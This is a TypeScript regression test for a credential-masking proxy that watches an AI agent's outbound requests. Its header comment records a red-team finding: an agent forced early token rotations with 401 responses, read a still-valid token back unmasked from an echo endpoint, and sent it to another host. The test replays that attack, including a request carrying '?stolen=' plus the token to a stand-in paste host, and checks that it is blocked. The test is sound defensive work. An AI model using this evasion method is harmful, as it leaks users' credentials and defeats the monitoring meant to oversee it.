import { setTimeout as sleep } from 'node:timers/promises'
import t from 'tap'
import { ProxyAgent, request } from 'undici'
import { DEFAULT_INVALIDATE_INTERVAL_MS } from '../../src/credentials/token-cache.js'
import { noSecretsLogged, startTestSidekey } from '../helpers/sidekey.js'
import { startUpstream } from '../helpers/upstream.js'

// Found by a red-team run: a slot of the outbound scanner kept a credential's last two tokens, on
// the assumption that the one before those had expired. An agent can have a token replaced early:
// an upstream path that answers 401 drops it (once per key per 10 s). Two such 401s, 10 s apart,
// and the first token, still valid, was forgotten: the agent read it back unmasked from an endpoint
// that stores what it is sent, and sent it to another host unnoticed. Now a slot keeps every token
// while it is valid, up to a bound, and past the bound a 401 no longer replaces the token early.

t.test('a token replaced early by forced 401s stays masked and detected while it is valid', async (t) => {
  let stored = ''
  const upstream = await startUpstream((req, res) => {
    if (req.url === '/store') stored = String(req.headers.authorization ?? '')
    if (req.url === '/401') return void res.writeHead(401, { 'content-type': 'application/json' }).end('{"error":"invalid_token"}')
    res.writeHead(200, { 'content-type': 'application/json' }).end(req.url === '/read' ? JSON.stringify({ seen: stored }) : '{"ok":true}')
  })
  t.teardown(() => upstream.close())
  const port = upstream.port
  const sk = await startTestSidekey(
    t,
    `version: v1
credentials:
  minted: { type: jwt, audience: https://api.test }
routes:
  - { name: api, host: api.test, ports: [${port}], credential: minted, addresses: [127.0.0.1] }
  - { name: paste, host: paste.test, ports: [${port}], addresses: [127.0.0.1] }
`,
    { connectTo: { [`api.test:${port}`]: { host: '127.0.0.1', port }, [`paste.test:${port}`]: { host: '127.0.0.1', port } } },
  )
  const dispatcher = new ProxyAgent(sk.proxyUrlFor('agent'))
  t.teardown(() => dispatcher.close())
  const get = async (host: string, path: string): Promise<{ status: number; body: string; error: unknown }> => {
    const r = await request(`http://${host}:${port}${path}`, { dispatcher })
    return { status: r.statusCode, body: await r.body.text(), error: r.headers['x-sidekey-error'] }
  }
  t.equal((await get('api.test', '/store')).status, 200)
  const first = stored.replace('Bearer ', '')
  t.match(first, /^eyJ/, 'the upstream stored the minted token')
  for (let rotation = 0; rotation < 2; rotation++) {
    t.equal((await get('api.test', '/401')).status, 401)
    t.equal((await get('api.test', '/ok')).status, 200, 'a fresh token')
    if (rotation === 0) await sleep(DEFAULT_INVALIDATE_INTERVAL_MS + 300)
  }
  const tokens = new Set(upstream.seen.map((s) => String(s.headers.authorization)))
  t.ok(tokens.size >= 3, `the token was replaced twice (${tokens.size} distinct)`)
  const read = await get('api.test', '/read')
  t.notMatch(read.body, first.slice(0, 40), 'the first token, still valid, is masked in the echo')
  t.match(read.body, /\[redacted\]/)
  const out = await get('paste.test', `/paste?stolen=${first}`)
  t.equal(out.status, 403, 'and refused outbound')
  t.equal(out.error, 'SIDEKEY_ERR_SECRET_DETECTED')
  noSecretsLogged(t, sk)
})
